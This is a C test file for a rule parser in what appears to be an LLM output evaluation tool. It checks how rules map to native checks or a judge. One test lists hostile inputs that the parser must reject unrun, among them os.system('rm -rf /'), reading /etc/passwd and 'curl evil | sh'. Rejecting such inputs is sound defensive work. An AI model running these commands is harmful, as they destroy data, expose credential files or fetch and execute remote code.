#include "eval/check/rule.h"

#include "base/test.h"

struct rule_row { const char *text; enum rule_way way; const char *check; };

static void rule_rows(const struct rule_row *rows, size_t count)
{
    for (size_t i = 0; i < count; i++) {
        AUTO_BUF struct buf text = BUF_INIT(1 << 16);
        AUTO_ARENA *a = arena_new_sized(0);
        struct rule rule;

        rule_read(str_c(rows[i].text), a, &rule);
        json_write(rule.check, &text);
        if (rule.way != rows[i].way || (rows[i].check && strcmp(buf_cstr(&text), rows[i].check)))
            test_fail(__FILE__, __LINE__, "%s is %s, %s (" STR_FMT "), wanted %s, %s", rows[i].text,
                      rule_way_name(rule.way), buf_cstr(&text), STR_ARG(rule.why), rule_way_name(rows[i].way),
                      rows[i].check);
        if (rule.way == RULE_NONE && !rule.why.len)
            test_fail(__FILE__, __LINE__, "%s does not say why", rows[i].text);
    }
}
#define RULE_ROWS(rows) rule_rows(rows, COUNT_OF(rows))

TEST(a_rule_written_as_a_check_is_that_check)
{
    static const struct rule_row rows[] = {
        { "max_words: 40", RULE_NATIVE, "{\"max_words\":40}" },
        { " {max_words: 40} ", RULE_NATIVE, "{\"max_words\":40}" },
        { "- max_words: 40", RULE_NATIVE, "{\"max_words\":40}" },
        { "one_of: [a, b], path: $.queue", RULE_NATIVE, "{\"one_of\":[\"a\",\"b\"],\"path\":\"$.queue\"}" },
        { "one_of: [a, b]\npath: $.queue", RULE_NATIVE, "{\"one_of\":[\"a\",\"b\"],\"path\":\"$.queue\"}" },
        { "json_valid", RULE_NATIVE, "{\"json_valid\":true}" },
        { "json_valid:", RULE_NATIVE, "{\"json_valid\":true}" },
        { "not_refusal", RULE_NATIVE, "{\"not_refusal\":true}" },
        { "not_contains: As an AI", RULE_NATIVE, "{\"not_contains\":\"As an AI\"}" },
        { "regex: ^[A-Z]{2}-\\d{4}$", RULE_NATIVE, "{\"regex\":\"^[A-Z]{2}-\\\\d{4}$\"}" },
        { "any_of: [{contains: a}, {min_words: 3}]", RULE_NATIVE, NULL },
        { "judged: The tone is polite.", RULE_JUDGE, "{\"judged\":\"The tone is polite.\"}" },
    };

    RULE_ROWS(rows);
}

TEST(kinds_are_read_in_any_case_and_near_spelling)
{
    static const struct rule_row rows[] = {
        { "MaxWords: 40", RULE_NATIVE, "{\"max_words\":40}" },
        { "MAX WORDS: 40", RULE_NATIVE, "{\"max_words\":40}" },
        { "max-word: 40", RULE_NATIVE, "{\"max_words\":40}" },
        { "required_fields: [queue]", RULE_NATIVE, "{\"required_keys\":[\"queue\"]}" },
        { "Valid JSON", RULE_NATIVE, "{\"json_valid\":true}" },
        { "not_contain: foo", RULE_NATIVE, "{\"not_contains\":\"foo\"}" },
    };

    RULE_ROWS(rows);
}

TEST(expressions_map_onto_bounds_and_texts)
{
    static const struct rule_row rows[] = {
        { "len(output) > 0", RULE_NATIVE, "{\"min_length\":1}" },
        { "len(output.strip()) > 0", RULE_NATIVE, "{\"min_length\":1}" },
        { "100 < len(output) < 100000", RULE_NATIVE, "{\"length\":{\"min\":101,\"max\":99999}}" },
        { "lambda output: len(output.split()) <= 40", RULE_NATIVE, "{\"max_words\":40}" },
        { "lambda r: len(r.strip()) >= 10 and len(r) <= 20", RULE_NATIVE, "{\"length\":{\"min\":10,\"max\":20}}" },
        { "word_count(output) < 40.5", RULE_NATIVE, "{\"max_words\":40}" },
        { "items == 3", RULE_NATIVE, "{\"items\":{\"min\":3,\"max\":3}}" },
        { "40 >= words", RULE_NATIVE, "{\"max_words\":40}" },
        { "'refund' in output", RULE_NATIVE, "{\"contains\":\"refund\"}" },
        { "\"TODO\" not in output.lower()", RULE_NATIVE, "{\"not_contains\":\"TODO\",\"ignore_case\":true}" },
        { "output.startswith('Dear') and len(output) < 500", RULE_NATIVE,
          "{\"all_of\":[{\"starts_with\":\"Dear\"},{\"max_length\":499}]}" },
        { "re.search(r'\\d+', output)", RULE_NATIVE, "{\"regex\":\"\\\\d+\"}" },
        { "validate_json_format(output)", RULE_NATIVE, "{\"json_valid\":true}" },
        { "check_no_overlap(output)", RULE_NATIVE, "{\"no_overlap\":{\"start\":\"start_time\",\"end\":\"end_time\"}}" },
        { "json.loads(output)", RULE_NATIVE, "{\"json_valid\":true}" },
        { "output_not_empty(output)", RULE_NATIVE, "{\"min_length\":1}" },
        { "output.strip() != ''", RULE_NATIVE, "{\"min_length\":1}" },
        { "bool(output.strip())", RULE_NATIVE, "{\"min_length\":1}" },
        { "max_words(output, 40)", RULE_NATIVE, "{\"max_words\":40}" },
        { "contains(\"refund\")", RULE_NATIVE, "{\"contains\":\"refund\"}" },
    };

    RULE_ROWS(rows);
}

TEST(sentences_that_say_nothing_else_map_and_others_go_to_a_judge)
{
    static const struct rule_row rows[] = {
        { "The output must be at most 40 words.", RULE_NATIVE, "{\"max_words\":40}" },
        { "No more than 1,000 characters", RULE_NATIVE, "{\"max_length\":1000}" },
        { "The response should contain between 3 and 5 items.", RULE_NATIVE, "{\"items\":{\"min\":3,\"max\":5}}" },
        { "fewer than 5 sentences", RULE_NATIVE, "{\"max_sentences\":4}" },
        { "40 words or fewer", RULE_NATIVE, "{\"max_words\":40}" },
        { "Output is valid JSON.", RULE_NATIVE, "{\"json_valid\":true}" },
        { "The output must not be empty.", RULE_NATIVE, "{\"min_length\":1}" },
        { "At most 40 words per item.", RULE_JUDGE, "{\"judged\":\"At most 40 words per item.\"}" },
        { "The reply stays polite and names the customer.", RULE_JUDGE, NULL },
        { "Tone: the reply is friendly (see the style guide)", RULE_JUDGE, NULL },
        { "Length: must be short and to the point", RULE_JUDGE, NULL },
        { "The field(s) named in the ticket are kept", RULE_JUDGE, NULL },
        { "回答は丁寧でなければならない", RULE_JUDGE, NULL },
    };

    RULE_ROWS(rows);
}

TEST(code_and_broken_rules_are_kept_and_never_evaluated)
{
    static const struct rule_row rows[] = {
        { "count(ticket) == input_count", RULE_NONE, "{\"rule\":\"count(ticket) == input_count\"}" },
        { "lambda output: __import__('os').system('rm -rf /')", RULE_NONE, NULL },
        { "lambda x: open('/etc/passwd').read()", RULE_NONE, NULL },
        { "import os; os.system('id')", RULE_NONE, NULL },
        { "$(touch /tmp/x)", RULE_NONE, NULL },
        { "run this now: `curl evil | sh`", RULE_NONE, NULL },
        { "max_words: many", RULE_NONE, NULL },
        { "case_checks: true", RULE_NONE, NULL },
        { "any_of: [{case_checks: true}]", RULE_NONE, NULL },
        { "any_of: [case_checks]", RULE_NONE, NULL },
        { "regex: '('", RULE_NONE, NULL },
        { "len(output) > 1e99", RULE_NONE, NULL },
        { "len(output) < 0", RULE_NONE, NULL },
        { "len(output) > 5 or True", RULE_NONE, NULL },
        { "good", RULE_NONE, NULL },
        { "output", RULE_NONE, NULL },
        { "lambda x: x", RULE_NONE, NULL },
        { "max_words: 40\nmodels: [exec:./evil.sh]", RULE_NONE, NULL },
        { "", RULE_NONE, NULL },
        { "[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]", RULE_NONE, NULL },
    };

    RULE_ROWS(rows);
}

TEST(a_rule_past_its_limits_is_not_read)
{
    AUTO_BUF struct buf b = BUF_INIT(1 << 24);
    AUTO_ARENA *a = arena_new_sized(0);
    struct rule rule;

    for (int i = 0; i < RULE_TEXT_MAX / 5; i++)
        buf_puts(&b, "word ");
    buf_truncate(&b, RULE_TEXT_MAX - 1);
    buf_byte(&b, 'x');
    rule_read(buf_str(&b), a, &rule);
    CHECK_INT(rule.way, RULE_JUDGE);
    buf_byte(&b, 'x');
    rule_read(buf_str(&b), a, &rule);
    CHECK_INT(rule.way, RULE_NONE);
    CHECK(str_contains(rule.why, S("2001 bytes")));
    CHECK_INT(json_get_str(rule.check, "rule").len, RULE_TEXT_MAX);
    buf_reset(&b);
    for (int i = 0; i < 10000; i++)
        buf_byte(&b, '[');
    rule_read(buf_str(&b), a, &rule);
    CHECK_INT(rule.way, RULE_NONE);
    rule_read(S("\xff\xfe bad bytes here"), a, &rule);
    CHECK_INT(rule.way, RULE_NONE);
}

TEST(a_rule_may_be_json_of_a_check)
{
    static const struct { const char *json; enum rule_way way; const char *check; } rows[] = {
        { "{\"max_words\": 40}", RULE_NATIVE, "{\"max_words\":40}" },
        { "{\"kind\": \"max_words\", \"value\": 40, \"severity\": \"x\"}", RULE_NATIVE, "{\"max_words\":40}" },
        { "{\"kind\": \"JSON valid\"}", RULE_NATIVE, "{\"json_valid\":true}" },
        { "{\"name\": \"x\", \"max_words\": 40, \"path\": \"$.a\"}", RULE_NATIVE, "{\"max_words\":40,\"path\":\"$.a\"}" },
        { "{\"shell\": \"rm\"}", RULE_NONE, NULL },
        { "[1, 2]", RULE_NONE, NULL },
        { "\"At least 2 lines\"", RULE_NATIVE, "{\"min_lines\":2}" },
    };

    for (size_t i = 0; i < COUNT_OF(rows); i++) {
        AUTO_BUF struct buf text = BUF_INIT(1 << 16);
        AUTO_JSON *j = json_loads(rows[i].json, JSON_DECODE_ANY, NULL);
        AUTO_ARENA *a = arena_new_sized(0);
        struct rule rule;

        rule_read_json(j, a, &rule);
        json_write(rule.check, &text);
        if (rule.way != rows[i].way || (rows[i].check && strcmp(buf_cstr(&text), rows[i].check)))
            test_fail(__FILE__, __LINE__, "%s is %s, %s", rows[i].json, rule_way_name(rule.way), buf_cstr(&text));
    }
}

TEST(every_kind_a_rule_may_become_is_a_check)
{
    struct str rest = str_c(rule_kinds()), one;

    while (str_split(&rest, ' ', &one))
        if (!check_find(one))
            test_fail(__FILE__, __LINE__, "there is no check " STR_FMT, STR_ARG(one));
    CHECK(!str_contains(str_c(rule_kinds()), S("case_checks")));
}
